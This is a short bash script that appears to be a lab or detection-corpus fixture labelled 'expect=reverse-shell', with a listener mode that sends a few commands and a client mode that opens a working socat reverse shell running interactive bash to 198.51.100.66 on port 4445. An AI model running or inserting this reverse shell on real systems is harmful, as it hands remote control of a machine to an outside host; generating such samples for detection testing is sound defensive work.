#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=reverse-shell half=tune tool=socat,bash far=out ready=out:4445 seconds=20
# socat owns the socket and a pty; bash has the other end of the pty.
if [ "$1" = out ]; then
	(sleep 2; for line in id "ls /" "cat /etc/hostname" exit; do echo "$line"; sleep 3; done) | timeout 30 socat -t 2 - TCP-LISTEN:4445,reuseaddr
	exit 0
fi
cd "$LAB" || exit 1
socat TCP:198.51.100.66:4445 EXEC:"bash -i",pty,stderr,setsid,sigint,sane
true
